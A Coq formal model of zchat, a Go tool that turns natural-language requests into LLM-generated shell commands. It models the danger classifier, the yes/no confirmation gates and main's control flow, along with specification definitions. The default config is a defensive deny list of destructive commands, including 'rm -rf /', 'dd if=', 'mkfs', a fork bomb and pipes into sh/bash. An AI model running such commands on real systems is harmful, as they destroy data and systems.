(** * zchat: the danger classifier and the confirmation gate

    A shallow embedding of the Go program [github.com/palaforcade/zchat]:
    [executor.IsDangerous], [executor.SafeExecutor.Execute], the prompts of
    [ui.Display] and the control flow of [main].

    Go strings are byte sequences and are modelled by [string] (a list of
    8-bit [ascii]).  Standard output, standard error, the reads of standard
    input, the calls of [Execute] and the subprocesses handed to [cmd.Run]
    are recorded, in order, in the trace of a [World]; [os.Exit] is an
    outcome of the computation monad [M]. *)

From Stdlib Require Import String Ascii List ZArith Bool Lia DecimalString.
Import ListNotations.

Local Open Scope string_scope.
Local Open Scope Z_scope.

(** The line feed, Go's ['\n']. *)
Definition LF : ascii := ascii_of_nat 10.
Definition nl : string := String LF "".

(* ================================================================== *)
(** ** Package [strings] of the Go library

    The functions the program calls, on their byte-wise (ASCII) path: a byte
    of value 128 or more is neither a letter nor a space here, so it is kept
    as it is. *)

Module strings.

Definition isUpper (c : ascii) : bool := (("A" <=? c) && (c <=? "Z"))%char.
Definition isLower (c : ascii) : bool := (("a" <=? c) && (c <=? "z"))%char.

(** [c += 'a' - 'A'] on an upper-case letter. *)
Definition lower_byte (c : ascii) : ascii :=
  if isUpper c then ascii_of_N (N_of_ascii c + 32) else c.

Fixpoint ToLower (s : string) : string :=
  match s with
  | "" => ""
  | String c s' => String (lower_byte c) (ToLower s')
  end.

(** The table [asciiSpace]: tab, line feed, vertical tab, form feed,
    carriage return and space. *)
Definition asciiSpace (c : ascii) : bool :=
  let n := N_of_ascii c in
  ((9 <=? n) && (n <=? 13) || (n =? 32))%N.

Fixpoint TrimLeft (s : string) : string :=
  match s with
  | "" => ""
  | String c s' => if asciiSpace c then TrimLeft s' else s
  end.

Fixpoint TrimRight (s : string) : string :=
  match s with
  | "" => ""
  | String c s' =>
      match TrimRight s' with
      | "" => if asciiSpace c then "" else String c ""
      | t => String c t
      end
  end.

(** [s[start:stop]] with [start] the first and [stop] the last byte that
    is not a space. *)
Definition TrimSpace (s : string) : string := TrimRight (TrimLeft s).

Fixpoint HasPrefix (s prefix : string) : bool :=
  match prefix, s with
  | "", _ => true
  | String p prefix', String c s' => (c =? p)%char && HasPrefix s' prefix'
  | String _ _, "" => false
  end.

(** The index of the first instance of [substr] in [s], or [-1]. *)
Fixpoint Index (s substr : string) : Z :=
  if HasPrefix s substr then 0
  else match s with
       | "" => -1
       | String _ s' =>
           let i := Index s' substr in
           if i <? 0 then -1 else i + 1
       end.

Definition Contains (s substr : string) : bool := 0 <=? Index s substr.

Fixpoint Join (elems : list string) (sep : string) : string :=
  match elems with
  | [] => ""
  | [e] => e
  | e :: rest => e ++ sep ++ Join rest sep
  end.

(** [genSplit]: the first piece of [s] and the pieces after it; [skip]
    counts the bytes of a separator still to pass over. *)
Fixpoint genSplit (s sep : string) (skip : nat) : string * list string :=
  match s with
  | "" => ("", [])
  | String c s' =>
      match skip with
      | S k => genSplit s' sep k
      | O =>
          if HasPrefix s sep then
            let '(piece, pieces) :=
              genSplit s' sep (String.length sep - 1)%nat in
            ("", piece :: pieces)
          else
            let '(piece, pieces) := genSplit s' sep 0 in
            (String c piece, pieces)
      end
  end.

(** [explode]: one string per byte. *)
Fixpoint explode (s : string) : list string :=
  match s with
  | "" => []
  | String c s' => String c "" :: explode s'
  end.

(** The pieces of [s] between the occurrences of [sep], found from the
    left. *)
Definition Split (s sep : string) : list string :=
  if (sep =? "")%string then explode s
  else let '(piece, pieces) := genSplit s sep 0 in piece :: pieces.

(** [c] is one of the bytes of [cutset]. *)
Fixpoint inCutset (cutset : string) (c : ascii) : bool :=
  match cutset with
  | "" => false
  | String d cutset' => (c =? d)%char || inCutset cutset' c
  end.

Fixpoint TrimLeftCutset (s cutset : string) : string :=
  match s with
  | "" => ""
  | String c s' => if inCutset cutset c then TrimLeftCutset s' cutset else s
  end.

Fixpoint TrimRightCutset (s cutset : string) : string :=
  match s with
  | "" => ""
  | String c s' =>
      match TrimRightCutset s' cutset with
      | "" => if inCutset cutset c then "" else String c ""
      | t => String c t
      end
  end.

(** [s] without the leading and trailing bytes that are in [cutset]. *)
Definition Trim (s cutset : string) : string :=
  TrimRightCutset (TrimLeftCutset s cutset) cutset.

(** [strconv.Itoa], the decimal text of [fmt]'s verb [%d]. *)
Definition Itoa (i : Z) : string := NilZero.string_of_int (Z.to_int i).

(** [elems[lo:hi]] for [lo <= hi <= len(elems)]. *)
Definition slice {A : Type} (elems : list A) (lo hi : nat) : list A :=
  firstn (hi - lo) (skipn lo elems).

End strings.

(* ================================================================== *)
(** ** Errors *)

(** Go's [error] values the program meets: the sentinel [io.EOF], an error
    made from a message ([errors.New], [fmt.Errorf] without [%w]) and an
    error wrapping another one ([fmt.Errorf] with [%w]). *)
Inductive error : Type :=
| io_EOF
| errors_New (msg : string)
| Wrap (msg : string) (inner : error).

(** [err.Error()]. *)
Fixpoint Error (e : error) : string :=
  match e with
  | io_EOF => "EOF"
  | errors_New msg => msg
  | Wrap msg inner => msg ++ Error inner
  end.

(** [err != nil] for a nilable error. *)
Definition notnil (err : option error) : bool :=
  match err with Some _ => true | None => false end.

(* ================================================================== *)
(** ** Package [config] *)

Module config.

Record Config : Type := {
  Provider : string;
  APIKey : string;
  Model : string;
  OllamaURL : string;
  MaxContextLines : Z;
  DangerousPatterns : list string
}.

Definition getDefaultConfig : Config := {|
  Provider := "ollama";
  APIKey := "";
  Model := "qwen2.5-coder:7b";
  OllamaURL := "http://localhost:11434";
  MaxContextLines := 20;
  DangerousPatterns := [
    "rm -rf /";
    "rm -rf /*";
    "rm -rf *";
    "rm -rf ~";
    "rm -rf $HOME";
    "> /dev/sda";
    "dd if=";
    "mkfs";
    "format";
    "diskutil";
    ":(){:|:&};:";
    "chmod -R 777 /";
    "| sh";
    "| bash";
    "| zsh"
  ]
|}.

(** What [Load] asks of the machine: [os.UserHomeDir], [filepath.Join],
    [os.ReadFile], [yaml.Unmarshal] of the bytes of a file into a
    configuration (the fields the file names are overwritten), and
    [os.Getenv]. *)
Record Host : Type := {
  os_UserHomeDir : string + error;
  filepath_Join : list string -> string;
  os_ReadFile : string -> string + error;
  yaml_Unmarshal : string -> Config -> Config + error;
  os_Getenv : string -> string
}.

(** The assignments [cfg.APIKey = v], [cfg.Provider = v] and
    [cfg.OllamaURL = v]. *)
Definition set_APIKey (c : Config) (v : string) : Config :=
  {| Provider := Provider c; APIKey := v; Model := Model c;
     OllamaURL := OllamaURL c; MaxContextLines := MaxContextLines c;
     DangerousPatterns := DangerousPatterns c |}.

Definition set_Provider (c : Config) (v : string) : Config :=
  {| Provider := v; APIKey := APIKey c; Model := Model c;
     OllamaURL := OllamaURL c; MaxContextLines := MaxContextLines c;
     DangerousPatterns := DangerousPatterns c |}.

Definition set_OllamaURL (c : Config) (v : string) : Config :=
  {| Provider := Provider c; APIKey := APIKey c; Model := Model c;
     OllamaURL := v; MaxContextLines := MaxContextLines c;
     DangerousPatterns := DangerousPatterns c |}.

(** [getConfigPath] returns the path to the config file. *)
Definition getConfigPath (h : Host) : string + error :=
  match os_UserHomeDir h with
  | inr err => inr err
  | inl home => inl (filepath_Join h [home; ".config"; "zchat"; "config.yaml"])
  end.

(** [Validate] checks if the configuration is valid. *)
Definition Validate (c : Config) : option error :=
  if negb (Provider c =? "anthropic")%string
     && negb (Provider c =? "ollama")%string
  then
    Some (errors_New
            ("invalid provider: " ++ Provider c
             ++ " (must be 'anthropic' or 'ollama')"))
  else if (Provider c =? "anthropic")%string then
    if (APIKey c =? "")%string then
      Some (errors_New
              ("API key is required for Anthropic. "
               ++ "Set ANTHROPIC_API_KEY environment variable "
               ++ "or add api_key to ~/.config/zchat/config.yaml"))
    else None
  else None.

(** [Load] loads configuration from file and environment variables. *)
Definition Load (h : Host) : Config + error :=
  let cfg := getDefaultConfig in
  (* Try to load config file *)
  let loaded : Config + error :=
    match getConfigPath h with
    | inl configPath =>
        match os_ReadFile h configPath with
        | inl data =>
            match yaml_Unmarshal h data cfg with
            | inr err => inr (Wrap "failed to parse config file: " err)
            | inl cfg => inl cfg
            end
        | inr _ => inl cfg
        end
    | inr _ => inl cfg
    end in
  match loaded with
  | inr err => inr err
  | inl cfg =>
      (* Environment variables take precedence *)
      let apiKey := os_Getenv h "ANTHROPIC_API_KEY" in
      let cfg := if negb (apiKey =? "")%string
                 then set_APIKey cfg apiKey else cfg in
      let provider := os_Getenv h "ZCHAT_PROVIDER" in
      let cfg := if negb (provider =? "")%string
                 then set_Provider cfg provider else cfg in
      let ollamaURL := os_Getenv h "OLLAMA_URL" in
      let cfg := if negb (ollamaURL =? "")%string
                 then set_OllamaURL cfg ollamaURL else cfg in
      (* Validate configuration *)
      match Validate cfg with
      | Some err => inr err
      | None => inl cfg
      end
  end.

End config.

(* ================================================================== *)
(** ** Package [context] *)

Module context.

Record SystemContext : Type := {
  WorkingDir : string;
  Files : list string;
  Shell : string;
  OS : string;
  Arch : string
}.

(** What [Collect] asks of the machine: [os.Getwd], the output of
    [exec.Command("ls", "-1")], [os.Getenv], and the constants
    [runtime.GOOS] and [runtime.GOARCH]. *)
Record Host : Type := {
  os_Getwd : string + error;
  ls_Output : string + error;
  os_Getenv : string -> string;
  runtime_GOOS : string;
  runtime_GOARCH : string
}.

Record DefaultCollector : Type := {
  maxFiles : Z
}.

(** [NewDefaultCollector] creates a new collector with file limit. *)
Definition NewDefaultCollector (maxFiles : Z) : DefaultCollector :=
  {| maxFiles := maxFiles |}.

(** [getFileList] retrieves a list of files in the current directory. *)
Definition getFileList (h : Host) (c : DefaultCollector)
  : list string * option error :=
  match ls_Output h with
  | inr err => ([], Some err)
  | inl output =>
      (* Parse output *)
      let lines := strings.Split (strings.TrimSpace output) nl in
      (* Filter out hidden files and limit to maxFiles *)
      ((fix loop (lines files : list string) : list string :=
          match lines with
          | [] => files
          | line :: rest =>
              let line := strings.TrimSpace line in
              if (line =? "")%string || strings.HasPrefix line "."
              then loop rest files
              else
                let files := (files ++ [line])%list in
                if maxFiles c <=? Z.of_nat (length files) then files
                else loop rest files
          end) lines [],
       None)
  end.

(** [Collect] gathers system context information. *)
Definition Collect (h : Host) (c : DefaultCollector) : SystemContext + error :=
  (* Get current working directory *)
  match os_Getwd h with
  | inr err => inr err
  | inl wd =>
      (* Get file listing; don't fail if ls fails *)
      let '(files, _) := getFileList h c in
      (* Get shell (default to zsh if not set) *)
      let shell := os_Getenv h "SHELL" in
      let shell := if (shell =? "")%string then "/bin/zsh" else shell in
      inl {| WorkingDir := wd;
             Files := files;
             Shell := shell;
             OS := runtime_GOOS h;
             Arch := runtime_GOARCH h |}
  end.

End context.

(* ================================================================== *)
(** ** Package [llm] *)

Module llm.

Inductive Client : Type :=
| AnthropicClient (apiKey model : string)
| OllamaClient (baseURL model : string).

Definition NewAnthropicClient (apiKey model : string) : Client :=
  AnthropicClient apiKey model.

Definition NewOllamaClient (baseURL model : string) : Client :=
  OllamaClient baseURL model.

(** [buildSystemPrompt] creates a comprehensive system prompt with
    context. *)
Definition buildSystemPrompt (sysCtx : context.SystemContext) : string :=
  "You are a command-line expert assistant. "
  ++ "Generate a single shell command that accomplishes the user's goal."
  ++ nl ++ nl
  ++ "CRITICAL RULES:" ++ nl
  ++ "- Output ONLY the command itself, nothing else" ++ nl
  ++ "- No explanations, no markdown, no code blocks, no backticks" ++ nl
  ++ "- The command will be executed directly in the shell" ++ nl
  ++ "- Make sure the command is safe and correct" ++ nl ++ nl
  ++ "SYSTEM CONTEXT:" ++ nl
  ++ ("- Operating System: " ++ context.OS sysCtx ++ nl)
  ++ ("- Architecture: " ++ context.Arch sysCtx ++ nl)
  ++ ("- Shell: " ++ context.Shell sysCtx ++ nl)
  ++ ("- Current Directory: " ++ context.WorkingDir sysCtx ++ nl)
  ++ (if (0 <? length (context.Files sysCtx))%nat then
        "- Available Files: "
        ++ strings.Join (context.Files sysCtx) ", " ++ nl
      else "- Available Files: (none visible)" ++ nl)
  ++ nl ++ "Generate the appropriate command for the user's request.".

(** [parseCommandFromResponse] cleans up the LLM response and extracts
    the command. *)
Definition parseCommandFromResponse (response : string) : string + error :=
  (* Trim whitespace *)
  let response := strings.TrimSpace response in
  (* Remove markdown code blocks if present *)
  let response :=
    if strings.HasPrefix response "```" then
      let lines := strings.Split response nl in
      if (2 <? length lines)%nat then
        (* Skip first line and last line *)
        strings.TrimSpace
          (strings.Join (strings.slice lines 1 (length lines - 1)) nl)
      else response
    else response in
  (* Remove any backticks *)
  let response := strings.Trim response "`" in
  let response := strings.TrimSpace response in
  if (response =? "")%string then
    inr (errors_New "received empty response from LLM")
  else inl response.

(** The parameters of [Messages.New]: the model, the token limit, the
    text of the system blocks and the text of the user messages. *)
Record MessageNewParams : Type := {
  params_Model : string;
  MaxTokens : Z;
  System : list string;
  Messages : list string
}.

Record ollamaRequest : Type := {
  Model : string;
  Prompt : string;
  Stream : bool
}.

Record ollamaResponse : Type := {
  resp_Model : string;
  CreatedAt : string;
  Response : string;
  Done : bool
}.

(** The request [http.NewRequestWithContext] builds, with the header
    [GenerateCommand] sets on it, and the answer of [client.Do]. *)
Record Request : Type := {
  Method : string;
  URL : string;
  Body : string;
  ContentType : string
}.

Record HTTPResponse : Type := {
  StatusCode : Z;
  resp_Body : string
}.

(** What the clients ask of the network and of the libraries: the
    Anthropic API, called by a client made with an API key, which answers
    with the text of the content blocks of a message; [json.Marshal] of a
    request; the check of method and URL in
    [http.NewRequestWithContext]; [client.Do]; and the JSON decoder on
    the body of a response. *)
Record Network : Type := {
  Messages_New : string -> MessageNewParams -> list string + error;
  json_Marshal : ollamaRequest -> string + error;
  http_NewRequest : string -> string -> string -> option error;
  client_Do : Request -> HTTPResponse + error;
  json_Decode : string -> ollamaResponse + error
}.

(** [AnthropicClient.GenerateCommand] generates a shell command from a
    natural language query. *)
Definition AnthropicClient_GenerateCommand (net : Network)
  (apiKey model : string) (query : string)
  (sysCtx : context.SystemContext) : string + error :=
  (* Build system prompt *)
  let systemPrompt := buildSystemPrompt sysCtx in
  (* Create message request *)
  match Messages_New net apiKey {| params_Model := model;
                                   MaxTokens := 1024;
                                   System := [systemPrompt];
                                   Messages := [query] |} with
  | inr err => inr (Wrap "API request failed: " err)
  | inl content =>
      (* Extract response text *)
      match content with
      | [] => inr (errors_New "received empty response from API")
      | responseText :: _ =>
          (* Parse and clean the response *)
          match parseCommandFromResponse responseText with
          | inr err => inr (Wrap "failed to parse command: " err)
          | inl command => inl command
          end
      end
  end.

(** [OllamaClient.GenerateCommand] generates a shell command from a
    natural language query using Ollama. *)
Definition OllamaClient_GenerateCommand (net : Network)
  (baseURL model : string) (query : string)
  (sysCtx : context.SystemContext) : string + error :=
  (* Build system prompt *)
  let systemPrompt := buildSystemPrompt sysCtx in
  (* Combine system prompt and user query *)
  let fullPrompt := systemPrompt ++ nl ++ nl ++ "User request: " ++ query in
  (* Create request *)
  let reqBody := {| Model := model; Prompt := fullPrompt; Stream := false |} in
  match json_Marshal net reqBody with
  | inr err => inr (Wrap "failed to marshal request: " err)
  | inl jsonData =>
      (* Make HTTP request *)
      match http_NewRequest net "POST" (baseURL ++ "/api/generate") jsonData
      with
      | Some err => inr (Wrap "failed to create request: " err)
      | None =>
          let req := {| Method := "POST";
                        URL := baseURL ++ "/api/generate";
                        Body := jsonData;
                        ContentType := "application/json" |} in
          match client_Do net req with
          | inr err => inr (Wrap "API request failed: " err)
          | inl resp =>
              if negb (StatusCode resp =? 200) then
                inr (errors_New
                       ("API request failed with status "
                        ++ strings.Itoa (StatusCode resp) ++ ": "
                        ++ resp_Body resp))
              else
                (* Parse response *)
                match json_Decode net (resp_Body resp) with
                | inr err => inr (Wrap "failed to decode response: " err)
                | inl ollamaResp =>
                    (* Parse and clean the response *)
                    match parseCommandFromResponse (Response ollamaResp) with
                    | inr err => inr (Wrap "failed to parse command: " err)
                    | inl command => inl command
                    end
                end
          end
      end
  end.

(** [Client.GenerateCommand], by the client behind the interface. *)
Definition GenerateCommand (net : Network) (c : Client) (query : string)
  (sysCtx : context.SystemContext) : string + error :=
  match c with
  | AnthropicClient apiKey model =>
      AnthropicClient_GenerateCommand net apiKey model query sysCtx
  | OllamaClient baseURL model =>
      OllamaClient_GenerateCommand net baseURL model query sysCtx
  end.

End llm.

(* ================================================================== *)
(** ** The world of one run *)

(** What the process finds around it: its arguments and the answers of the
    collaborators outside the gate (the configuration loader, the context
    collector, the model behind [GenerateCommand], and the shell that
    [cmd.Run] starts, which answers with the combined output and an
    error or [nil]). *)
Record Env : Type := {
  os_Args : list string;
  config_Load : config.Config + error;
  Collect : Z -> context.SystemContext + error;
  GenerateCommand :
    llm.Client -> string -> context.SystemContext -> string + error;
  cmd_Run : string -> list string -> string * option error
}.

(** The buffered reader over standard input: the bytes still to come and
    the error the underlying reader gives once they are used up ([io.EOF]
    when the stream is closed). *)
Record Reader : Type := {
  pending : string;
  failure : error
}.

(** What a run does, as seen from outside: a write to standard output or
    to standard error, a [ReadString] on standard input with what it
    returned, an entry into [SafeExecutor.Execute], and a [cmd.Run] of the
    command [name arg...], which starts the subprocess. *)
Inductive event : Type :=
| Stdout (s : string)
| Stderr (s : string)
| Read (input : string) (err : option error)
| Call_Execute (command : string)
| Start (name : string) (arg : list string).

Record World : Type := {
  reader : Reader;
  trace : list event
}.

(** A computation either returns or ends the process with [os.Exit]. *)
Inductive result (A : Type) : Type :=
| Ret (a : A)
| Exit (code : Z).

Arguments Ret {A} a.
Arguments Exit {A} code.

Definition M (A : Type) : Type := World -> result A * World.

Definition ret {A : Type} (a : A) : M A := fun w => (Ret a, w).

Definition bind {A B : Type} (m : M A) (k : A -> M B) : M B :=
  fun w =>
    match m w with
    | (Ret a, w') => k a w'
    | (Exit code, w') => (Exit code, w')
    end.

Declare Scope go_scope.
Delimit Scope go_scope with go.
Notation "x <- m ;; k" := (bind m (fun x => k))
  (at level 61, m at next level, right associativity) : go_scope.
Notation "' p <- m ;; k" := (bind m (fun x => let 'p := x in k))
  (at level 61, p pattern, m at next level, right associativity) : go_scope.
Notation "m ;; k" := (bind m (fun _ => k))
  (at level 61, right associativity) : go_scope.
Local Open Scope go_scope.

Definition emit (e : event) : M unit :=
  fun w => (Ret tt, {| reader := reader w; trace := trace w ++ [e] |}).

Definition os_Exit {A : Type} (code : Z) : M A := fun w => (Exit code, w).

Definition fmt_Print (s : string) : M unit := emit (Stdout s).
Definition fmt_Println (s : string) : M unit := emit (Stdout (s ++ nl)).
Definition fmt_Fprint_Stderr (s : string) : M unit := emit (Stderr s).

(** The bytes of [s] up to and including the first line feed, and what
    follows them. *)
Fixpoint cut_line (s : string) : option (string * string) :=
  match s with
  | "" => None
  | String c s' =>
      if (c =? LF)%char then Some (String c "", s')
      else match cut_line s' with
           | Some (line, rest) => Some (String c line, rest)
           | None => None
           end
  end.

(** [reader.ReadString('\n')]: the line with its delimiter, or, when the
    input ends before a delimiter, the bytes read so far and the error. *)
Definition ReadString (r : Reader) : (string * option error) * Reader :=
  match cut_line (pending r) with
  | Some (line, rest) =>
      ((line, None), {| pending := rest; failure := failure r |})
  | None =>
      ((pending r, Some (failure r)), {| pending := ""; failure := failure r |})
  end.

Definition reader_ReadString : M (string * option error) :=
  fun w =>
    let '((input, err), r') := ReadString (reader w) in
    (Ret (input, err),
     {| reader := r'; trace := trace w ++ [Read input err] |}).

(* ================================================================== *)
(** ** Package [executor] *)

Module executor.

(** [IsDangerous] checks if a command matches any dangerous patterns. *)
Definition IsDangerous (command : string) (patterns : list string)
  : bool * string :=
  let commandLower := strings.ToLower command in
  (fix loop (patterns : list string) : bool * string :=
     match patterns with
     | [] => (false, "")
     | pattern :: rest =>
         let patternLower := strings.ToLower pattern in
         if strings.Contains commandLower patternLower
         then (true, "Command contains dangerous pattern: " ++ pattern)
         else loop rest
     end) patterns.

Record SafeExecutor : Type := {
  dangerousPatterns : list string;
  shell : string
}.

Definition NewSafeExecutor (patterns : list string) (shell : string)
  : SafeExecutor :=
  let shell := if (shell =? "")%string then "/bin/zsh" else shell in
  {| dangerousPatterns := patterns; shell := shell |}.

(** [cmd.Run()] of [exec.CommandContext(ctx, name, arg...)] with both
    output streams captured in one buffer. *)
Definition Run (env : Env) (name : string) (arg : list string)
  : M (string * option error) :=
  emit (Start name arg) ;;
  ret (cmd_Run env name arg).

Definition Execute (env : Env) (e : SafeExecutor) (command : string)
  : M (string * option error) :=
  emit (Call_Execute command) ;;
  let '(isDangerous, reason) := IsDangerous command (dangerousPatterns e) in
  if isDangerous then
    ret ("", Some (errors_New
                     ("refused to execute dangerous command: " ++ reason)))
  else
    '(output, err) <- Run env (shell e) ["-c"; command] ;;
    match err with
    | Some err => ret (output, Some (Wrap "command execution failed: " err))
    | None => ret (output, None)
    end.

End executor.

(* ================================================================== *)
(** ** Package [ui]

    [main] makes one [Display]; its [reader] is the reader of the world. *)

Module ui.

Definition ShowCommand (command : string) : M unit :=
  fmt_Print ("Command: " ++ command ++ nl).

Definition ConfirmExecution : M (bool * option error) :=
  fmt_Print "Execute? [Y/n]: " ;;
  '(input, err) <- reader_ReadString ;;
  if notnil err then ret (false, err)
  else
    let input := strings.TrimSpace (strings.ToLower input) in
    if (input =? "")%string || (input =? "y")%string
       || (input =? "yes")%string
    then ret (true, None)
    else ret (false, None).

Definition ShowError (err : error) : M unit :=
  fmt_Fprint_Stderr ("Error: " ++ Error err ++ nl).

Definition ShowSuccess (output : string) : M unit :=
  fmt_Print output.

Definition ShowDangerWarning (reason : string) : M (bool * option error) :=
  fmt_Println (nl ++ "⚠️  WARNING: Dangerous command detected!") ;;
  fmt_Print ("Reason: " ++ reason ++ nl) ;;
  fmt_Print "Are you SURE you want to execute this? [yes/no]: " ;;
  '(input, err) <- reader_ReadString ;;
  if notnil err then ret (false, err)
  else
    let input := strings.TrimSpace (strings.ToLower input) in
    ret ((input =? "yes")%string, None).

End ui.

(* ================================================================== *)
(** ** Package [main] *)

Definition showUsage : M unit :=
  fmt_Println "Usage: zchat <natural language query>" ;;
  fmt_Println "" ;;
  fmt_Println "Example:" ;;
  fmt_Println "  zchat list the number of lines in analysis_data.csv" ;;
  fmt_Println "  zchat find all python files modified in the last week" ;;
  fmt_Println "  zchat show disk usage sorted by size" ;;
  fmt_Println "" ;;
  fmt_Println "Configuration:" ;;
  fmt_Println "  Default provider: Ollama (local)" ;;
  fmt_Println "  Default model: qwen2.5-coder:7b" ;;
  fmt_Println "" ;;
  fmt_Println "  To use Anthropic instead:" ;;
  fmt_Println "    Set ANTHROPIC_API_KEY and ZCHAT_PROVIDER=anthropic" ;;
  fmt_Println "" ;;
  fmt_Println "  Or create ~/.config/zchat/config.yaml with:" ;;
  fmt_Println "    provider: ollama  # or anthropic" ;;
  fmt_Println "    model: qwen2.5-coder:7b" ;;
  fmt_Println "    ollama_url: http://localhost:11434".

(** The [switch cfg.Provider] of [main]; [None] is its [default] branch. *)
Definition select_client (cfg : config.Config) : option llm.Client :=
  if (config.Provider cfg =? "anthropic")%string then
    Some (llm.NewAnthropicClient (config.APIKey cfg) (config.Model cfg))
  else if (config.Provider cfg =? "ollama")%string then
    Some (llm.NewOllamaClient (config.OllamaURL cfg) (config.Model cfg))
  else None.

(** [main], "Safety check": a command the classifier flags needs the
    strict confirmation; a refusal or a failed read ends the process. *)
Definition safety_check (cfg : config.Config) (command : string) : M unit :=
  let '(isDangerous, reason) :=
    executor.IsDangerous command (config.DangerousPatterns cfg) in
  if isDangerous then
    '(confirmed, err) <- ui.ShowDangerWarning reason ;;
    if notnil err || negb confirmed then
      fmt_Println "Command execution cancelled." ;;
      os_Exit 0
    else ret tt
  else ret tt.

(** [main], "Confirm execution" and "Execute". *)
Definition confirm_and_execute (env : Env) (cfg : config.Config)
  (sysCtx : context.SystemContext) (command : string) : M unit :=
  '(confirmed, err) <- ui.ConfirmExecution ;;
  if notnil err || negb confirmed then
    fmt_Println "Command execution cancelled." ;;
    os_Exit 0
  else
    let exec :=
      executor.NewSafeExecutor (config.DangerousPatterns cfg)
        (context.Shell sysCtx) in
    '(output, err) <- executor.Execute env exec command ;;
    match err with
    | Some err =>
        ui.ShowError err ;;
        (if negb (output =? "")%string then fmt_Println output else ret tt) ;;
        os_Exit 1
    | None => ui.ShowSuccess output
    end.

(** [main] from "Display command" on: the generated [command] is shown,
    checked, confirmed and executed. *)
Definition gate (env : Env) (cfg : config.Config)
  (sysCtx : context.SystemContext) (command : string) : M unit :=
  ui.ShowCommand command ;;
  safety_check cfg command ;;
  confirm_and_execute env cfg sysCtx command.

Definition main (env : Env) : M unit :=
  if (length (os_Args env) <? 2)%nat then
    showUsage ;;
    os_Exit 1
  else
    let query := strings.Join (tl (os_Args env)) " " in
    match config_Load env with
    | inr err =>
        fmt_Fprint_Stderr ("Error loading config: " ++ Error err ++ nl) ;;
        os_Exit 1
    | inl cfg =>
        match Collect env (config.MaxContextLines cfg) with
        | inr err =>
            fmt_Fprint_Stderr
              ("Error collecting context: " ++ Error err ++ nl) ;;
            os_Exit 1
        | inl sysCtx =>
            match select_client cfg with
            | None =>
                fmt_Fprint_Stderr
                  ("Unknown provider: " ++ config.Provider cfg ++ nl) ;;
                os_Exit 1
            | Some llmClient =>
                match GenerateCommand env llmClient query sysCtx with
                | inr err =>
                    fmt_Fprint_Stderr
                      ("Error generating command: " ++ Error err ++ nl) ;;
                    os_Exit 1
                | inl command => gate env cfg sysCtx command
                end
            end
        end
    end.

(** The exit status of the process and the world it leaves: returning from
    [main] is status 0. *)
Definition run (env : Env) (w : World) : Z * World :=
  match main env w with
  | (Ret _, w') => (0, w')
  | (Exit code, w') => (code, w')
  end.

(** A world at the start of the process: nothing has happened yet. *)
Definition initial (input : string) (failure : error) : World :=
  {| reader := {| pending := input; failure := failure |}; trace := [] |}.

(* ================================================================== *)
(** ** The program on a machine *)

(** The machine a process runs on: its arguments, what [config.Load] and
    [Collect] ask of it, the network of the clients, and the shell. *)
Record Machine : Type := {
  machine_Args : list string;
  machine_config : config.Host;
  machine_context : context.Host;
  machine_network : llm.Network;
  machine_Run : string -> list string -> string * option error
}.

(** The collaborators of [main] as the packages implement them. *)
Definition process (m : Machine) : Env :=
  {| os_Args := machine_Args m;
     config_Load := config.Load (machine_config m);
     Collect := fun maxFiles =>
       context.Collect (machine_context m)
         (context.NewDefaultCollector maxFiles);
     GenerateCommand := llm.GenerateCommand (machine_network m);
     cmd_Run := machine_Run m |}.

(* ================================================================== *)
(** ** Vocabulary of the specification *)

(** [sub] occurs in [s] as a contiguous run of bytes. *)
Definition is_substring (sub s : string) : Prop :=
  exists u v, s = u ++ sub ++ v.

(** The other case of a letter; every other byte is kept. *)
Definition swap_byte (c : ascii) : ascii :=
  if strings.isUpper c then ascii_of_N (N_of_ascii c + 32)
  else if strings.isLower c then ascii_of_N (N_of_ascii c - 32)
  else c.

(** [s] with the case of the letters at the positions chosen by [which]
    changed. *)
Fixpoint change_case (which : nat -> bool) (s : string) : string :=
  match s with
  | "" => ""
  | String c s' =>
      String (if which O then swap_byte c else c)
        (change_case (fun i => which (S i)) s')
  end.

(** Every letter of [s] in its other case. *)
Definition toggled_case (s : string) : string := change_case (fun _ => true) s.

(** The normal form of an answer in the specification's words: surrounding
    whitespace trimmed, then lower-cased. *)
Definition normalized (input : string) : string :=
  strings.ToLower (strings.TrimSpace input).

(** [s] holds no line feed. *)
Fixpoint no_LF (s : string) : bool :=
  match s with
  | "" => true
  | String c s' => negb (c =? LF)%char && no_LF s'
  end.

(** The answer the strict prompt takes as a yes. *)
Definition strict_yes (answer : string) : Prop := answer = "yes".

(** The answers the standard prompt takes as a yes. *)
Definition standard_yes (answer : string) : Prop :=
  answer = "" \/ answer = "y" \/ answer = "yes".

(** The run of [main] reaches the gate with [command]: there is a query,
    the configuration and the context load, the provider is known and the
    model answers with [command]. *)
Definition reaches_gate (env : Env) (cfg : config.Config)
  (sysCtx : context.SystemContext) (command : string) : Prop :=
  (2 <= length (os_Args env))%nat /\
  config_Load env = inl cfg /\
  Collect env (config.MaxContextLines cfg) = inl sysCtx /\
  exists llmClient,
    select_client cfg = Some llmClient /\
    GenerateCommand env llmClient (strings.Join (tl (os_Args env)) " ") sysCtx
    = inl command.

(** The first line of [input] is an answer the prompt takes as a yes, and
    [rest] follows it. *)
Definition accepted (yes : string -> Prop) (input rest : string) : Prop :=
  exists L,
    input = L ++ nl ++ rest /\ no_LF L = true /\ yes (normalized L).

(** The first line of [input] is an answer the prompt does not take as a
    yes. *)
Definition declined (yes : string -> Prop) (input : string) : Prop :=
  exists L rest,
    input = L ++ nl ++ rest /\ no_LF L = true /\ ~ yes (normalized L).

(** The read of a line from [input] fails: the input ends before a line
    feed. *)
Definition read_fails (input : string) : Prop := no_LF input = true.

(** The answers on standard input let [command] through the gate of the
    specification: the classifier finds it safe and the first line is a yes
    of the standard prompt, or the classifier finds it dangerous, the first
    line is the full word and the second line is a yes of the standard
    prompt. *)
Definition passes_gate (patterns : list string) (command input : string)
  : Prop :=
  (fst (executor.IsDangerous command patterns) = false /\
   exists rest, accepted standard_yes input rest)
  \/
  (fst (executor.IsDangerous command patterns) = true /\
   exists rest1 rest2,
     accepted strict_yes input rest1 /\ accepted standard_yes rest1 rest2).

(** A prompt that is reached is declined, or its read fails: the standard
    prompt of a safe command, or either prompt of a dangerous one. *)
Definition cancels (patterns : list string) (command input : string)
  : Prop :=
  (fst (executor.IsDangerous command patterns) = false /\
   (read_fails input \/ declined standard_yes input))
  \/
  (fst (executor.IsDangerous command patterns) = true /\
   (read_fails input \/ declined strict_yes input \/
    exists rest1,
      accepted strict_yes input rest1 /\
      (read_fails rest1 \/ declined standard_yes rest1))).

(** The world with more events in its trace. *)
Definition logged (w : World) (events : list event) : World :=
  {| reader := reader w; trace := trace w ++ events |}.

